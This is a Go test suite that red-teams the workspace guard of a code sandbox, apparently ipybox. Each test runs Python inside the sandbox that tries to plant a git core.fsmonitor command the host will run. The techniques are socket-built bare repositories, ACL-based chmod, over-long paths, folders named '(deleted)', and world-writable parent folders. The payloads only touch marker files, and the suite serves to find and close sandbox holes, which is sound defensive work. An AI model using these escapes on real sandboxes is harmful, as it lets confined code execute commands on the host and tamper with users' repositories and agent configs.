package ipybox_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ipybox/ipybox"
	"github.com/ipybox/ipybox/internal/container"
	"github.com/ipybox/ipybox/internal/testenv"
)

// hostGitStatus runs `git status` on the host in dir, as a user would (or a
// shell prompt, or an agent that checks the tree when it starts), with no
// global or system config and with the walk up stopped at stop's parent.
// guardBackends are the launchers whose kernels run under the workspace
// guard: bwrap and the container (GuardMain).
var guardBackends = []struct {
	name  string
	start func(t *testing.T, ws string) *ipybox.Executor
}{
	{"bwrap", func(t *testing.T, ws string) *ipybox.Executor { return startSandboxed(t, &ipybox.Options{WorkDir: ws}) }},
	{"container", func(t *testing.T, ws string) *ipybox.Executor {
		testenv.NeedsDocker(t)
		chownTree(t, ws, container.MappedID)
		return startContainer(t, nil, &ipybox.Options{WorkDir: ws})
	}},
}

// chownTree gives ws and everything in it to id, when the test runs as
// root: the container's user is container.MappedID, and what the workspace
// holds is its owner's.
func chownTree(t *testing.T, ws string, id int) {
	t.Helper()
	if os.Geteuid() != 0 {
		return
	}
	filepath.Walk(ws, func(p string, _ os.FileInfo, err error) error {
		if err == nil {
			err = os.Lchown(p, id, id)
		}
		return err
	})
}

func hostGitStatus(t *testing.T, dir, stop string) string {
	t.Helper()
	git := testenv.NeedsTool(t, "git")
	cmd := exec.Command(git, "status")
	cmd.Dir = dir
	cmd.Env = []string{
		"PATH=" + os.Getenv("PATH"),
		"HOME=" + t.TempDir(),
		"GIT_CONFIG_NOSYSTEM=1",
		"GIT_CEILING_DIRECTORIES=" + filepath.Dir(stop),
	}
	out, _ := cmd.CombinedOutput()
	return string(out)
}

// TestRedteamBareLayoutFromSockets: the guard refuses to complete a bare
// repository's layout (HEAD beside objects/ and refs/), but it hands only
// the calls that create names through open, mkdir, mknod, link, symlink
// and rename. bind(2) on a unix socket also creates a name, and git's test
// for a repository folder is access(objects, X_OK) and access(refs, X_OK):
// a socket (mode 0777 &^ umask) passes. So kernel code writes HEAD and
// config in a folder (no layout yet, so both are allowed), binds sockets
// named objects and refs beside them, and the folder is a repository whose
// config the host's git obeys: `git status` in it, or in any folder below
// it, runs core.fsmonitor on the host.
//
// It fails while the host runs the command; it passes when bind is refused
// at those names (or a socket is not counted by git).
func TestRedteamBareLayoutFromSockets(t *testing.T) {
	t.Parallel()
	testenv.NeedsTool(t, "git")
	for _, b := range guardBackends {
		t.Run(b.name, func(t *testing.T) {
			t.Parallel()
			ex := b.start(t, t.TempDir())
			testBareLayoutFromSockets(t, ex, ex.Workspace())
		})
	}
}

func testBareLayoutFromSockets(t *testing.T, ex *ipybox.Executor, ws string) {
	for _, at := range []string{"evil", "."} { // a folder, and the workspace root itself
		marker := filepath.Join(t.TempDir(), "host-ran-fsmonitor")
		got := run(t, ex, `import os, socket
d = `+pyStr(at)+`
os.makedirs(os.path.join(d, "sub"), exist_ok=True)
out = []
def step(name, fn):
    try:
        fn(); out.append(name + ":ok")
    except OSError as e:
        out.append(name + ":" + (e.strerror or str(e)))
step("HEAD", lambda: open(os.path.join(d, "HEAD"), "w").write("ref: refs/heads/main\n"))
step("config", lambda: open(os.path.join(d, "config"), "w").write(
    "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = " + os.path.abspath(d) +
    "\n\tfsmonitor = \"touch `+marker+`; false\"\n"))
for n in ("objects", "refs"):
    step("bind " + n, lambda: socket.socket(socket.AF_UNIX).bind(os.path.join(d, n)))
print(" ".join(out))`).Text
		t.Logf("%s: %s", at, got)
		hostGitStatus(t, filepath.Join(ws, at, "sub"), ws)
		if _, err := os.Stat(marker); err == nil {
			t.Errorf("git status on the host, in %s/sub, ran core.fsmonitor from a config that kernel code wrote: "+
				"the folder became a bare repository through sockets bound at objects and refs (%s)", at, strings.TrimSpace(got))
		}
	}
}

// TestRedteamACLChmodsProtectedPaths: the guard refuses chmod* on the paths
// host programs run or obey, but setxattr(system.posix_acl_access) changes
// the same mode bits (a minimal ACL is the mode) and is not refused. Kernel
// code makes a nested repository's .git, .git/config and .git/hooks
// world-writable; every other local user can then write core.fsmonitor or
// a hook, which the workspace owner's git runs (as root, when ipybox runs
// as root). The root repository's .git is mounted read-only, so the test
// uses a nested one, as a workspace with several clones has.
//
// It fails while the mode of a protected path changes; it would pass if
// setxattr/lsetxattr/fsetxattr/setxattrat (and removexattr) of
// system.posix_acl_* were handed to the guard and refused there as chmod
// is.
func TestRedteamACLChmodsProtectedPaths(t *testing.T) {
	t.Parallel()
	for _, b := range guardBackends {
		t.Run(b.name, func(t *testing.T) {
			t.Parallel()
			testACLChmod(t, b.start, t.TempDir())
		})
	}
}

func testACLChmod(t *testing.T, start func(*testing.T, string) *ipybox.Executor, ws string) {
	git := testenv.NeedsTool(t, "git")
	if out, err := exec.Command(git, "init", "-q", filepath.Join(ws, "sub")).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	paths := []string{"sub/.git", "sub/.git/config", "sub/.git/hooks"}
	before := map[string]os.FileMode{}
	for _, p := range paths {
		fi, err := os.Stat(filepath.Join(ws, p))
		if err != nil {
			t.Fatal(err)
		}
		before[p] = fi.Mode()
	}
	ex := start(t, ws)
	got := run(t, ex, `import os, struct
def acl(perm):  # USER_OBJ, GROUP_OBJ, OTHER: a minimal ACL is a mode
    return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, perm, 0xffffffff) for tag in (1, 4, 0x20))
out = []
for p in `+pyList(paths)+`:
    try:
        os.chmod(p, 0o777); out.append(p + " chmod:ok")
    except OSError as e:
        out.append(p + " chmod:" + e.strerror)
    try:
        os.setxattr(p, "system.posix_acl_access", acl(7)); out.append(p + " acl:ok")
    except OSError as e:
        out.append(p + " acl:" + e.strerror)
print("; ".join(out))`).Text
	for _, p := range paths {
		fi, err := os.Stat(filepath.Join(ws, p))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode() != before[p] {
			t.Errorf("kernel code changed the mode of %s from %v to %v (%s)", p, before[p], fi.Mode(), strings.TrimSpace(got))
		}
	}
}

func pyList(ss []string) string {
	q := make([]string, len(ss))
	for i, s := range ss {
		q[i] = pyStr(s)
	}
	return "[" + strings.Join(q, ", ") + "]"
}

// TestRedteamDeepPathFailsOpen: the guard judges the full path of a call,
// and a path longer than PATH_MAX (4096) is one it cannot judge: there it
// lets the call through. Kernel code makes 25 levels of 200-byte folder
// names (relative chdirs, each call short), makes a repository there
// (.git with HEAD, objects, refs and a config naming core.fsmonitor), then
// renames the long folders from the top down to "a", each rename a short
// path that names no protected component. The repository ends up at
// deep/a/a/.../proj, and `git status` there on the host runs the command.
//
// It fails while a .git made by kernel code exists in the workspace; it
// would pass if the guard refused (fail closed) what it cannot resolve, or
// judged the call from the descriptor of the folder it lands in.
func TestRedteamDeepPathFailsOpen(t *testing.T) {
	t.Parallel()
	for _, b := range guardBackends {
		t.Run(b.name, func(t *testing.T) {
			t.Parallel()
			ex := b.start(t, t.TempDir())
			ws := ex.Workspace()
			marker := filepath.Join(t.TempDir(), "host-ran-fsmonitor")
			got := run(t, ex, `import os
ws = os.getcwd()
LONG = "d" * 200
os.mkdir("deep"); os.chdir("deep")
depth = 0
try:
    for i in range(25):
        os.mkdir(LONG); os.chdir(LONG); depth += 1
    os.makedirs("proj/sub"); os.mkdir("proj/.git")
    for d in ("objects", "refs", "refs/heads"):
        os.mkdir("proj/.git/" + d)
    open("proj/.git/HEAD", "w").write("ref: refs/heads/main\n")
    open("proj/.git/config", "w").write('[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch `+marker+`; false"\n')
    made = "made"
except OSError as e:
    made = "refused: " + e.strerror
os.chdir(ws)
p = "deep"
for i in range(depth):
    os.rename(p + "/" + LONG, p + "/a"); p += "/a"
print(made, p + "/proj")`).Text
			fields := strings.Fields(got)
			repo := filepath.Join(ws, fields[len(fields)-1])
			if _, err := os.Stat(filepath.Join(repo, ".git", "config")); err != nil {
				t.Logf("stopped: %s", got)
				return
			}
			msg := "kernel code made a repository at " + repo + " through paths longer than PATH_MAX"
			hostGitStatus(t, filepath.Join(repo, "sub"), ws)
			if _, err := os.Stat(marker); err == nil {
				msg += ", and git status there on the host ran its core.fsmonitor"
			}
			t.Error(msg)
		})
	}
}

// TestRedteamDeletedSuffixFolder: the guard takes the path of a folder from
// readlink(/proc/self/fd/N), and treats a link that ends in " (deleted)"
// as a deleted folder, where nothing can be made, so it allows the call.
// A live folder may be named "x (deleted)". Kernel code makes one, lays
// out a repository in it (HEAD, objects, refs, a config with
// core.fsmonitor: none of it is checked), moves it to proj/.git (the
// destination's folder is another "(deleted)" one) and renames that
// folder to proj. `git status` in proj on the host runs the command.
//
// It fails while the repository is made; it would pass if the guard told
// a deleted folder by its link count (fstat st_nlink == 0), not by its
// name, or refused what it cannot name.
func TestRedteamDeletedSuffixFolder(t *testing.T) {
	t.Parallel()
	for _, b := range guardBackends {
		t.Run(b.name, func(t *testing.T) {
			t.Parallel()
			ex := b.start(t, t.TempDir())
			ws := ex.Workspace()
			marker := filepath.Join(t.TempDir(), "host-ran-fsmonitor")
			got := run(t, ex, `import os
try:
    os.mkdir("g (deleted)")
    for d in ("objects", "refs", "refs/heads"):
        os.mkdir("g (deleted)/" + d)
    open("g (deleted)/HEAD", "w").write("ref: refs/heads/main\n")
    open("g (deleted)/config", "w").write('[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch `+marker+`; false"\n')
    os.mkdir("x (deleted)")
    os.rename("g (deleted)", "x (deleted)/.git")
    open("x (deleted)/.envrc", "w").write("echo from the kernel\n")
    os.rename("x (deleted)", "proj")
    os.mkdir("proj/sub")
    print("made", sorted(os.listdir("proj")))
except OSError as e:
    print("refused:", e)`).Text
			if _, err := os.Stat(filepath.Join(ws, "proj", ".git", "config")); err != nil {
				t.Logf("stopped: %s", got)
				return
			}
			msg := "kernel code made proj/.git and proj/.envrc through folders named \"... (deleted)\": " + strings.TrimSpace(got)
			hostGitStatus(t, filepath.Join(ws, "proj", "sub"), ws)
			if _, err := os.Stat(marker); err == nil {
				msg += "; git status in proj/sub on the host ran its core.fsmonitor"
			}
			t.Error(msg)
		})
	}
}

// TestRedteamChmodParentOfProtectedNames: the guard refuses changes to the
// names host programs run or obey, and chmod of those names, but not chmod
// of the folders that hold them: the workspace root itself (an empty
// relative path is allowed) and a nested repository's working tree. Kernel
// code makes both world-writable (0777); then any local user can create
// .claude/settings.json (hooks the owner's Claude Code runs), .mcp.json,
// .envrc or .vscode/ at the root, or move a repository's .git aside and
// put another in its place. When ipybox runs as root, that user's commands
// run as root.
//
// It fails while a folder holding host-read names gains write bits for
// group or others; it would pass if the guard refused chmod (and ACLs)
// that open a workspace folder to other users.
func TestRedteamChmodParentOfProtectedNames(t *testing.T) {
	t.Parallel()
	git := testenv.NeedsTool(t, "git")
	for _, b := range guardBackends {
		t.Run(b.name, func(t *testing.T) {
			t.Parallel()
			ws := t.TempDir()
			if out, err := exec.Command(git, "init", "-q", filepath.Join(ws, "sub")).CombinedOutput(); err != nil {
				t.Fatalf("git init: %v %s", err, out)
			}
			ex := b.start(t, ws)
			ws = ex.Workspace()
			got := run(t, ex, `import os
for p in (".", "sub"):
    try:
        os.chmod(p, 0o777); print(p, "chmod ok")
    except OSError as e:
        print(p, "chmod", e.strerror)`).Text
			for _, rel := range []string{".", "sub"} {
				fi, err := os.Stat(filepath.Join(ws, rel))
				if err != nil {
					t.Fatal(err)
				}
				if fi.Mode().Perm()&0o022 != 0 {
					msg := fmt.Sprintf("kernel code made %s (which holds .git or the root's host-read names) writable by others: %v (%s)", rel, fi.Mode(), strings.TrimSpace(got))
					if setpriv, err := exec.LookPath("setpriv"); err == nil && os.Geteuid() == 0 && rel == "." {
						os.Chmod(filepath.Dir(ws), 0o755)
						out, err := exec.Command(setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", "mkdir", filepath.Join(ws, ".claude")).CombinedOutput()
						if err == nil {
							msg += "; uid 65534 then made " + filepath.Join(ws, ".claude")
						} else {
							msg += "; uid 65534 could not make .claude: " + strings.TrimSpace(string(out))
						}
					}
					t.Error(msg)
				}
			}
		})
	}
}

// TestRedteamSocketInProtectedFolder: bind(2) is not handed to the guard,
// so kernel code makes names wherever a socket can go: inside a nested
// repository's .git (index.lock: every later `git add` or `git commit`
// there fails until a person removes it), and at protected names of a
// folder (.envrc, .mcp.json). It fails while any of those names appears.
func TestRedteamSocketInProtectedFolder(t *testing.T) {
	t.Parallel()
	git := testenv.NeedsTool(t, "git")
	ws := t.TempDir()
	if out, err := exec.Command(git, "init", "-q", filepath.Join(ws, "sub")).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	ex := startSandboxed(t, &ipybox.Options{WorkDir: ws})
	names := []string{"sub/.git/index.lock", "sub/.envrc", "sub/.mcp.json", "sub/.git/hooks/pre-commit"}
	got := run(t, ex, `import socket
for p in `+pyList(names)+`:
    try:
        socket.socket(socket.AF_UNIX).bind(p); print(p, "bound")
    except OSError as e:
        print(p, e.strerror)`).Text
	for _, n := range names {
		if _, err := os.Lstat(filepath.Join(ws, n)); err == nil {
			t.Errorf("kernel code made %s (a socket): %s", n, strings.TrimSpace(got))
		}
	}
	if out, err := exec.Command(git, "-C", filepath.Join(ws, "sub"), "commit", "--allow-empty", "-q", "-m", "x").CombinedOutput(); err != nil {
		t.Logf("host git commit in sub: %v %s", err, strings.TrimSpace(string(out)))
	}
}

// TestRedteamDeletedSuffixSwapsHostRepo: the "... (deleted)" blind spot
// used on the host's own repository (a clone in the workspace, as the
// person works in it): kernel code renames proj to "proj (deleted)", moves
// its .git aside and a .git of its own in (both names are entries of the
// blind folder), and renames the folder back. The person's next `git
// status` in proj runs the kernel's core.fsmonitor. It fails while proj's
// .git is replaced.
func TestRedteamDeletedSuffixSwapsHostRepo(t *testing.T) {
	t.Parallel()
	git := testenv.NeedsTool(t, "git")
	for _, b := range guardBackends {
		t.Run(b.name, func(t *testing.T) {
			t.Parallel()
			ws := t.TempDir()
			if out, err := exec.Command(git, "init", "-q", filepath.Join(ws, "proj")).CombinedOutput(); err != nil {
				t.Fatalf("git init: %v %s", err, out)
			}
			ex := b.start(t, ws)
			ws = ex.Workspace()
			marker := filepath.Join(t.TempDir(), "host-ran-fsmonitor")
			got := run(t, ex, `import os, shutil
try:
    os.mkdir("g (deleted)")
    for d in ("objects", "refs", "refs/heads"):
        os.mkdir("g (deleted)/" + d)
    open("g (deleted)/HEAD", "w").write("ref: refs/heads/main\n")
    open("g (deleted)/config", "w").write('[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch `+marker+`; false"\n')
    os.rename("proj", "proj (deleted)")
    os.rename("proj (deleted)/.git", "proj (deleted)/.git-moved")
    os.rename("g (deleted)", "proj (deleted)/.git")
    os.rename("proj (deleted)", "proj")
    print("swapped")
except OSError as e:
    print("refused:", e)`).Text
			if _, err := os.Stat(filepath.Join(ws, "proj", ".git-moved")); err != nil {
				t.Logf("stopped: %s", got)
				return
			}
			msg := "kernel code replaced the .git of the host's repository proj: " + strings.TrimSpace(got)
			hostGitStatus(t, filepath.Join(ws, "proj"), ws)
			if _, err := os.Stat(marker); err == nil {
				msg += "; git status in proj on the host ran its core.fsmonitor"
			}
			t.Error(msg)
		})
	}
}
